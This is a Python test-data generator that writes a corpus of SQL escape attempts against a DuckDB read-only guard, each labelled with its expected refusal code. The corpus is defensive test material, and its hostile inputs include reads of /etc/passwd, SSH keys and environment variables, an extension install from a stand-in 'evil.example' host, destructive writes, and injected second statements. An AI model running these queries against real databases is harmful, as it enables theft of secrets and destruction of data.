"""Write ``sql_escape_corpus.jsonl``: escape attempts against the SQL guard, each with the
refusal code it must get.

Two parts: hand-written attacks (replacement scans, PRAGMA/SET, macros, json
serialization, secrets, extensions, catalogs, CTE shadowing, lambdas, qualified names,
the database file itself), and one call of every name in DuckDB's function catalog that
the allowlist refuses (scalar, aggregate, macro, table function, table macro, PRAGMA).
Re-run after regenerating the allowlist::

    PYTHONPATH=src python tests/platform/data/make_escape_corpus.py
"""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import sqlglot

from dabench.platform.sqlguard.allowlist import load_allowlist

NR = "SQL_NOT_READ_ONLY"
FN = "SQL_FUNCTION_NOT_ALLOWED"
TF = "SQL_TABLE_FUNCTION_NOT_ALLOWED"
TB = "SQL_TABLE_NOT_ALLOWED"
FA = "SQL_FILE_ACCESS"
MS = "SQL_MULTIPLE_STATEMENTS"
PE = "SQL_PARSE_ERROR"

HAND: list[tuple[str, str, str]] = [
    # the findings
    ("json", "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))", TF),
    ("json", "SELECT json_serialize_sql('SELECT * FROM duckdb_settings()')", FN),
    ("json", "SELECT json_deserialize_sql(json_serialize_sql('SELECT 1'))", FN),
    ("json", "SELECT json_serialize_plan('SELECT 1')", FN),
    ("json", "PRAGMA json_execute_serialized_sql('{}')", NR),
    ("json", "FROM json_each(json_serialize_sql('SELECT getenv(''HOME'')'))", TF),
    ("by-name", "SELECT * FROM destroy_external_resource('getenv', 'HOME')", TF),
    ("by-name", "SELECT * FROM create_external_resource('x', 'y')", TF),
    ("by-name", "SELECT * FROM query('SELECT getenv(''HOME'')')", TF),
    ("by-name", "SELECT * FROM query_table('pg_catalog.pg_settings')", TF),
    ("by-name", "SELECT * FROM query_table(['sales.orders'])", TF),
    ("by-name", "SELECT list_aggr([1], 'sum')", FN),
    ("by-name", "SELECT aggregate([1], 'max')", FN),
    ("by-name", "SELECT array_aggregate([1], 'min')", FN),
    ("by-name", "SELECT to_aggregate_state(1, 'sum', 'INTEGER')", FN),
    ("by-name", "SELECT index_key({'table': 'orders'}, 'idx', 1)", FN),
    ("catalog", "SELECT * FROM pg_catalog.pg_settings", TB),
    ("catalog", "SELECT * FROM pg_settings", TB),
    ("catalog", "SELECT name, setting FROM pg_settings WHERE name = 'memory_limit'", TB),
    ("catalog", "SELECT * FROM duckdb_databases()", TF),
    ("catalog", "SELECT * FROM duckdb_settings()", TF),
    ("catalog", "SELECT * FROM duckdb_settings", TB),
    ("catalog", "SELECT * FROM duckdb_tables", TB),
    ("catalog", "SELECT * FROM duckdb_views", TB),
    ("catalog", "SELECT * FROM duckdb_columns", TB),
    ("catalog", "SELECT * FROM main.duckdb_settings()", TF),
    ("catalog", "SELECT * FROM system.main.duckdb_settings()", TF),
    ("catalog", "SELECT * FROM pg_catalog.pg_namespace", TB),
    ("catalog", "SELECT * FROM pg_catalog.pg_class", TB),
    ("catalog", "SELECT * FROM pg_catalog.pg_proc", TB),
    ("catalog", "SELECT * FROM pg_tables", TB),
    ("catalog", "SELECT * FROM pg_views", TB),
    ("catalog", "SELECT * FROM pg_attribute", TB),
    ("catalog", "SELECT * FROM pg_database", TB),
    ("catalog", "SELECT * FROM sqlite_master", TB),
    ("catalog", "SELECT * FROM sqlite_schema", TB),
    ("catalog", "SELECT * FROM sqlite_temp_master", TB),
    ("catalog", "SELECT * FROM information_schema.character_sets", TB),
    ("catalog", "SELECT * FROM system.information_schema.tables", TB),
    ("catalog", "SELECT * FROM temp.information_schema.tables", TB),
    ("catalog", "SELECT * FROM system.main.duckdb_tables", TB),
    ("catalog", "SELECT * FROM temp.main.anything", TB),
    ("catalog", "SELECT * FROM memory.main.t", TB),
    ("catalog", "SELECT * FROM warehouse.pg_catalog.pg_settings", TB),
    ("catalog", "SELECT * FROM pragma_database_list", TB),
    ("catalog", "SELECT * FROM pragma_table_info('sales.orders')", TF),
    ("catalog", "SELECT * FROM pragma_storage_info('sales.orders')", TF),
    ("catalog", "SELECT * FROM pragma_metadata_info()", TF),
    ("catalog", "SELECT * FROM pragma_database_size()", TF),
    ("catalog", "SELECT * FROM pragma_version()", TF),
    ("catalog", "SELECT * FROM pragma_show('sales.orders')", TF),
    ("catalog", "SELECT * FROM duckdb_memory()", TF),
    ("catalog", "SELECT * FROM duckdb_temporary_files()", TF),
    ("catalog", "SELECT * FROM duckdb_logs", TB),
    ("catalog", "SELECT * FROM duckdb_logs()", TF),
    ("catalog", "SELECT * FROM duckdb_variables()", TF),
    ("catalog", "SELECT * FROM duckdb_prepared_statements()", TF),
    ("catalog", "SELECT * FROM duckdb_functions()", TF),
    ("catalog", "SELECT format_type(23, NULL)", FN),
    ("catalog", "SELECT pg_get_viewdef(1)", FN),
    ("catalog", "SELECT current_database()", FN),
    ("catalog", "SELECT current_schema()", FN),
    ("catalog", "SELECT current_schemas(true)", FN),
    ("catalog", "SELECT in_search_path('warehouse', 'sales')", FN),
    ("catalog", "SELECT get_block_size('warehouse')", FN),
    # settings, variables, environment
    ("settings", "SELECT current_setting('memory_limit')", FN),
    ("settings", "SELECT current_setting('allowed_paths')", FN),
    ("settings", "SELECT getvariable('x')", FN),
    ("settings", "SELECT getenv('HOME')", FN),
    ("settings", "SELECT GETENV('PATH')", FN),
    ("settings", "SELECT \"getenv\"('HOME')", FN),
    ("settings", "SELECT version()", FN),
    ("settings", "SET memory_limit = '100GB'", NR),
    ("settings", "SET enable_external_access = true", NR),
    ("settings", "SET GLOBAL threads = 8", NR),
    ("settings", "SET VARIABLE x = 1", NR),
    ("settings", "RESET memory_limit", NR),
    ("settings", "RESET ALL", NR),
    ("settings", "SELECT 1; SET lock_configuration = false", MS),
    ("settings", "SELECT * FROM duckdb_settings() WHERE name = 'temp_directory'", TF),
    # PRAGMA
    ("pragma", "PRAGMA database_list", NR),
    ("pragma", "PRAGMA show_tables", NR),
    ("pragma", "PRAGMA table_info('sales.orders')", NR),
    ("pragma", "PRAGMA storage_info('sales.orders')", NR),
    ("pragma", "PRAGMA version", NR),
    ("pragma", "PRAGMA enable_profiling", NR),
    ("pragma", "PRAGMA memory_limit = '100GB'", NR),
    ("pragma", "PRAGMA threads = 8", NR),
    ("pragma", "PRAGMA import_database('/tmp')", NR),
    ("pragma", "PRAGMA copy_database('a', 'b')", NR),
    ("pragma", "PRAGMA force_checkpoint", NR),
    ("pragma", "CALL pragma_version()", NR),
    ("pragma", "CALL duckdb_settings()", NR),
    # macros
    ("macro", "CREATE MACRO f(x) AS getenv(x)", NR),
    ("macro", "CREATE TEMP MACRO f(x) AS x", NR),
    ("macro", "CREATE OR REPLACE TEMP MACRO upper(x) AS getenv(x)", NR),
    ("macro", "CREATE MACRO t() AS TABLE SELECT * FROM duckdb_settings()", NR),
    ("macro", "DROP MACRO f", NR),
    ("macro", "SELECT pg_sleep(100)", FN),
    ("macro", "SELECT current_user", FN),
    ("macro", "SELECT user", FN),
    ("macro", "SELECT session_user FROM sales.orders", FN),
    ("macro", "SELECT current_catalog", FN),
    ("macro", "SELECT current_schema", FN),
    ("macro", "SELECT current_role", FN),
    ("macro", "SELECT assert_true(false)", FN),
    ("macro", "FROM duckdb_profiling_settings()", TF),
    ("macro", "FROM duckdb_logs_parsed('QueryLog')", TF),
    # files and replacement scans
    ("file", "SELECT * FROM '/etc/passwd'", FA),
    ("file", "SELECT * FROM 'warehouse.duckdb'", FA),
    ("file", 'SELECT * FROM "warehouse.duckdb"', FA),
    ("file", "SELECT * FROM './warehouse.duckdb'", FA),
    ("file", "SELECT * FROM 'data.csv'", FA),
    ("file", "SELECT * FROM 'data.parquet'", FA),
    ("file", "SELECT * FROM 'data.json'", FA),
    ("file", "SELECT * FROM 's3://bucket/x.parquet'", FA),
    ("file", "SELECT * FROM 'https://example.com/x.csv'", FA),
    ("file", "SELECT * FROM '~/.ssh/id_rsa'", FA),
    ("file", "SELECT * FROM '/proc/self/environ'", FA),
    ("file", "SELECT * FROM '*.csv'", FA),
    ("file", "SELECT * FROM sales.orders, '/etc/hosts'", FA),
    ("file", "SELECT * FROM (SELECT * FROM '/etc/passwd')", FA),
    ("file", "WITH x AS (FROM '/etc/passwd') FROM x", FA),
    ("file", "SELECT * FROM sales.orders WHERE 1 IN (SELECT 1 FROM 'x.csv')", FA),
    ("file", "SELECT * FROM passwd", TB),
    ("file", "SELECT * FROM read_blob('warehouse.duckdb')", TF),
    ("file", "SELECT * FROM read_text('/etc/passwd')", TF),
    ("file", "SELECT * FROM read_csv('/etc/passwd', sep = ':')", TF),
    ("file", "SELECT * FROM read_csv_auto('warehouse.duckdb')", TF),
    ("file", "SELECT * FROM read_json('/etc/hosts')", TF),
    ("file", "SELECT * FROM read_parquet('x.parquet')", TF),
    ("file", "SELECT * FROM parquet_scan('x.parquet')", TF),
    ("file", "SELECT * FROM parquet_metadata('x.parquet')", TF),
    ("file", "SELECT * FROM read_duckdb('warehouse.duckdb')", TF),
    ("file", "SELECT * FROM glob('/etc/*')", TF),
    ("file", "SELECT * FROM glob('**')", TF),
    ("file", "SELECT * FROM sniff_csv('/etc/passwd')", TF),
    ("file", "SELECT * FROM read_ndjson_objects('/etc/passwd')", TF),
    ("file", "SELECT * FROM sales.orders o JOIN read_text('/etc/passwd') r ON true", TF),
    ("file", "SELECT (SELECT content FROM read_text('/etc/passwd'))", TF),
    ("file", "SELECT * FROM range(1) r, LATERAL (SELECT * FROM read_text('/etc/passwd'))", TF),
    ("file", "COPY sales.orders TO '/tmp/x.csv'", NR),
    ("file", "COPY (SELECT 1) TO '/tmp/x.parquet' (FORMAT parquet)", NR),
    ("file", "COPY sales.orders FROM '/etc/passwd'", NR),
    ("file", "EXPORT DATABASE '/tmp/dump'", NR),
    ("file", "EXPORT DATABASE '/tmp/dump' (FORMAT parquet)", NR),
    ("file", "IMPORT DATABASE '/tmp/dump'", NR),
    ("file", "ATTACH '/tmp/x.duckdb' AS x", NR),
    ("file", "ATTACH 'warehouse.duckdb' AS w2 (READ_ONLY)", NR),
    ("file", "ATTACH ':memory:' AS m", NR),
    ("file", "DETACH warehouse", NR),
    ("file", "USE system.main", NR),
    # writes and other statements
    ("write", "CREATE TABLE t AS SELECT 1", NR),
    ("write", "CREATE TEMP TABLE t AS SELECT 1", NR),
    ("write", "CREATE TEMP VIEW v AS SELECT * FROM duckdb_settings()", NR),
    ("write", "CREATE SEQUENCE s", NR),
    ("write", "CREATE SCHEMA x", NR),
    ("write", "CREATE TYPE m AS ENUM ('a')", NR),
    ("write", "INSERT INTO sales.orders SELECT * FROM sales.orders", NR),
    ("write", "UPDATE sales.orders SET order_id = NULL", NR),
    ("write", "DELETE FROM sales.orders", NR),
    ("write", "TRUNCATE sales.orders", NR),
    ("write", "DROP TABLE sales.orders", NR),
    ("write", "ALTER TABLE sales.orders RENAME TO x", NR),
    ("write", "WITH x AS (DELETE FROM sales.orders RETURNING *) SELECT * FROM x", NR),
    ("write", "INSERT INTO t VALUES (1) RETURNING *", NR),
    ("write", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", NR),
    ("write", "VACUUM", NR),
    ("write", "VACUUM ANALYZE sales.orders", NR),
    ("write", "ANALYZE", NR),
    ("write", "CHECKPOINT", NR),
    ("write", "FORCE CHECKPOINT", NR),
    ("write", "SELECT * FROM checkpoint()", TF),
    ("write", "SELECT * FROM force_checkpoint()", TF),
    ("write", "BEGIN TRANSACTION", NR),
    ("write", "COMMIT", NR),
    ("write", "ROLLBACK", NR),
    ("write", "ABORT", NR),
    ("write", "PREPARE p AS SELECT getenv('HOME')", NR),
    ("write", "EXECUTE p", NR),
    ("write", "DEALLOCATE p", NR),
    ("write", "SELECT 1; DROP TABLE sales.orders", MS),
    ("write", "SELECT 1 /* */; DELETE FROM sales.orders", MS),
    ("write", "SELECT nextval('s')", FN),
    ("write", "SELECT setval('s', 1)", FN),
    ("write", "SELECT write_log('x')", FN),
    ("write", "SELECT setseed(0.5)", FN),
    # secrets and extensions
    ("secret", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", NR),
    ("secret", "CREATE PERSISTENT SECRET s (TYPE http)", NR),
    ("secret", "DROP SECRET s", NR),
    ("secret", "SELECT * FROM duckdb_secrets()", TF),
    ("secret", "SELECT * FROM which_secret('s3://b/x', 's3')", TF),
    ("secret", "SELECT * FROM duckdb_secret_types()", TF),
    ("extension", "INSTALL httpfs", NR),
    ("extension", "FORCE INSTALL httpfs", NR),
    ("extension", "INSTALL httpfs FROM 'http://evil.example'", NR),
    ("extension", "LOAD httpfs", NR),
    ("extension", "LOAD '/tmp/evil.duckdb_extension'", NR),
    ("extension", "UPDATE EXTENSIONS", NR),
    ("extension", "SELECT * FROM duckdb_extensions()", TF),
    ("extension", "SELECT * FROM duckdb_extension_repositories()", TF),
    ("extension", "SELECT * FROM add_grammar_extension('x')", TF),
    ("extension", "SELECT * FROM enable_logging()", TF),
    ("extension", "SELECT * FROM enable_profiling()", TF),
    # hiding a refused call inside allowed syntax
    ("hidden", "SELECT list_transform([1], x -> getenv('HOME'))", FN),
    ("hidden", "SELECT list_transform([1], lambda x: current_setting('threads'))", FN),
    ("hidden", "SELECT list_filter(['a'], x -> getvariable(x) IS NULL)", FN),
    ("hidden", "SELECT COLUMNS(c -> getenv(c) IS NULL) FROM sales.orders", FN),
    ("hidden", "SELECT getenv('HOME') OVER ()", FN),
    ("hidden", "SELECT count(*) FILTER (WHERE getenv('X') IS NULL) FROM sales.orders", FN),
    ("hidden", "SELECT 1 FROM sales.orders ORDER BY getenv('X')", FN),
    ("hidden", "SELECT 1 FROM sales.orders GROUP BY current_setting('threads')", FN),
    ("hidden", "SELECT 1 FROM sales.orders QUALIFY getvariable('x') IS NULL", FN),
    ("hidden", "SELECT 1 FROM sales.orders HAVING max(getenv('X')) IS NULL", FN),
    ("hidden", "SELECT {'a': getenv('HOME')}", FN),
    ("hidden", "SELECT MAP {'k': current_setting('threads')}", FN),
    ("hidden", "SELECT [getenv('HOME')]", FN),
    ("hidden", "SELECT CASE WHEN true THEN getenv('HOME') END", FN),
    ("hidden", "SELECT CAST(getenv('HOME') AS VARCHAR)", FN),
    ("hidden", "SELECT getenv('HOME')::VARCHAR", FN),
    ("hidden", "SELECT TRY(getenv('HOME'))", FN),
    ("hidden", "SELECT coalesce(NULL, getenv('HOME'))", FN),
    ("hidden", "SELECT (SELECT current_setting('threads'))", FN),
    ("hidden", "SELECT 1 WHERE EXISTS (FROM duckdb_settings())", TF),
    ("hidden", "SELECT 1 WHERE 1 IN (SELECT 1 FROM pg_settings)", TB),
    ("hidden", "SELECT * FROM range(3) t(i) WHERE i < (SELECT count(*) FROM duckdb_tables())", TF),
    ("hidden", "SELECT 1 UNION ALL SELECT getenv('HOME')", FN),
    ("hidden", "SELECT 1 EXCEPT SELECT 1 FROM pg_settings", TB),
    ("hidden", "FROM sales.orders SELECT getenv('HOME')", FN),
    ("hidden", "SELECT * FROM unnest([getenv('HOME')])", FN),
    ("hidden", "SELECT * FROM range(length(getenv('HOME')))", FN),
    ("hidden", "SELECT * FROM generate_series(1, (SELECT count(*) FROM duckdb_settings()))", TF),
    ("hidden", "SELECT * FROM (VALUES (getenv('HOME')))", FN),
    ("hidden", "PIVOT sales.orders ON getenv('X') USING count(*)", NR),
    ("hidden", "SELECT * FROM (PIVOT pg_settings ON name USING first(setting))", NR),
    ("hidden", "SELECT * FROM (PIVOT pg_settings ON name IN ('a') USING first(setting))", TB),
    ("hidden", "SELECT * FROM (UNPIVOT pg_settings ON COLUMNS(*) INTO NAME k VALUE v)", TB),
    ("hidden", "SELECT * FROM sales.orders, duckdb_settings() USING SAMPLE 1 ROWS", TF),
    ("hidden", "SELECT * FROM sales.orders t(a) JOIN pg_settings ON true", TB),
    ("hidden", "SELECT * FROM sales.orders ASOF JOIN pg_settings ON true", TB),
    ("hidden", "SELECT * FROM sales.orders POSITIONAL JOIN pg_settings", TB),
    # qualified and shadowed names
    ("qualified", "SELECT system.main.getenv('HOME')", FN),
    ("qualified", "SELECT main.getenv('HOME')", FN),
    ("qualified", "SELECT pg_catalog.current_setting('threads')", FN),
    ("qualified", "SELECT main.upper('a')", FN),
    ("qualified", "SELECT warehouse.main.upper('a')", FN),
    ("qualified", "SELECT * FROM main.range(3)", TF),
    ("qualified", "SELECT * FROM system.main.range(3)", TF),
    ("shadow", "SELECT * FROM (WITH pg_settings AS (SELECT 1) FROM pg_settings), pg_settings", TB),
    ("shadow", "WITH pg_settings AS (FROM pg_settings) FROM pg_settings", TB),
    ("shadow", "WITH a AS (FROM b), b AS (FROM pg_settings) FROM a", TB),
    ("shadow", "WITH a AS (FROM sales.orders) FROM a, (WITH b AS (FROM a) FROM b), b", TB),
    ("shadow", "WITH duckdb_settings AS (SELECT 1) FROM duckdb_settings()", TF),
    ("shadow", "WITH x AS (SELECT 1) FROM main.x", TB),
    ("shadow", "WITH x AS (SELECT 1) FROM system.main.x", TB),
    ("shadow", "WITH RECURSIVE pg_settings AS (FROM pg_settings) FROM pg_settings", TB),
    ("shadow", "WITH x AS MATERIALIZED (FROM duckdb_settings()) FROM x", TF),
    # DESCRIBE, SUMMARIZE, SHOW
    ("show", "DESCRIBE sales.orders", NR),
    ("show", "SUMMARIZE sales.orders", NR),
    ("show", "SHOW TABLES", NR),
    ("show", "SHOW ALL TABLES", NR),
    ("show", "SHOW databases", NR),
    ("show", "FROM (DESCRIBE sales.orders)", TB),
    ("show", "FROM (SUMMARIZE sales.orders)", TB),
    ("show", "SELECT * FROM (SHOW ALL TABLES)", PE),
    ("show", "SELECT * FROM (DESCRIBE pg_settings)", TB),
    ("show", "SELECT * FROM summary((SELECT 1))", TF),
    # parser confusion
    ("parser", "SELECT 1\x00; DROP TABLE sales.orders", PE),
    ("parser", "SELECT 'a'; -- \nDROP TABLE sales.orders", MS),
    ("parser", "SELECT 1 -- \n; SET threads = 1", MS),
    ("parser", "SELECT $$x$$; SELECT getenv('HOME')", MS),
    ("parser", "SELECT getenv/**/('HOME')", FN),
    ("parser", "SELECT getenv\n('HOME')", FN),
    ("parser", "SELECT \"GETENV\"('HOME')", FN),
    ("parser", "SELECT e'\\x27'; SELECT 1", MS),
    ("parser", "SELECT * FROM sales.orders WHERE x = 1; ATTACH 'x' AS y", MS),
    ("parser", "CALL getenv('HOME')", NR),
    # breaking out of the server's size-bounding wrapper: FROM (\n<sql>\n) AS q
    ("wrapper", "SELECT 'x' AS s) AS q, (SELECT getenv('HOME')", PE),
    ("wrapper", "SELECT 'x' AS s /*", PE),
    ("wrapper", "SELECT 'x' AS s, 'unterminated", PE),
    ("wrapper", "SELECT 'x' AS s, $$unterminated", PE),
    ("wrapper", "SELECT 'x' AS \"unterminated", PE),
    ("wrapper", "SELECT 'x' AS s; -- ) AS q, getenv('HOME')", MS),
    ("wrapper", "SELECT 'x' AS s -- \n) AS q, read_text('/etc/passwd') AS r --", PE),
]


def _quoted(name: str) -> str:
    return name if name.isidentifier() else '"' + name.replace('"', '""') + '"'


def _call(con: duckdb.DuckDBPyConnection, name: str) -> str:
    """``name(1)``, or ``name()`` when DuckDB's parser already rejects one argument."""
    one = f"{_quoted(name)}(1)"
    row = con.execute("SELECT json_serialize_sql($1::VARCHAR)", [f"SELECT {one}"]).fetchone()
    try:
        sqlglot.parse_one(f"SELECT {one}", read="duckdb")
    except sqlglot.errors.ParseError:
        return f"{_quoted(name)}()"
    return f"{_quoted(name)}()" if row is None or '"error":true' in row[0] else one


def generated() -> list[tuple[str, str, str]]:
    """One call of every catalog name the allowlist refuses."""
    allow = load_allowlist()
    con = duckdb.connect(":memory:")
    kinds: dict[str, set[str]] = {}
    for name, kind in con.execute(
        "SELECT DISTINCT lower(function_name), function_type FROM duckdb_functions()"
    ).fetchall():
        kinds.setdefault(str(name), set()).add(str(kind))
    out = []
    for name in sorted(kinds):
        if name in allow.functions or name in allow.table_functions:
            continue
        types = kinds[name]
        call = _call(con, name)
        if types & {"table", "table_macro"}:
            out.append((f"catalog:{name}", f"SELECT * FROM {call}", TF))
        if types & {"scalar", "aggregate", "window", "macro"}:
            out.append((f"catalog:{name}", f"SELECT {call}", FN))
        if types == {"pragma"}:
            out.append((f"catalog:{name}", f"PRAGMA {name}", NR))
            out.append((f"catalog:{name}", f"SELECT * FROM pragma_{name}()", TF))
    return out


CORPUS = Path(__file__).with_name("sql_escape_corpus.jsonl")


def render() -> str:
    """The corpus file's text: one ``{kind, sql, code}`` JSON object per line."""
    rows = [{"kind": k, "sql": s, "code": c} for k, s, c in HAND + generated()]
    return "".join(json.dumps(r) + "\n" for r in rows)


def main() -> None:
    """Write the corpus next to this script."""
    text = render()
    CORPUS.write_text(text, encoding="utf-8")
    rows = text.splitlines()
    path = CORPUS
    print(f"wrote {path}: {len(rows)} escape attempts ({len(HAND)} hand-written)")


if __name__ == "__main__":
    main()
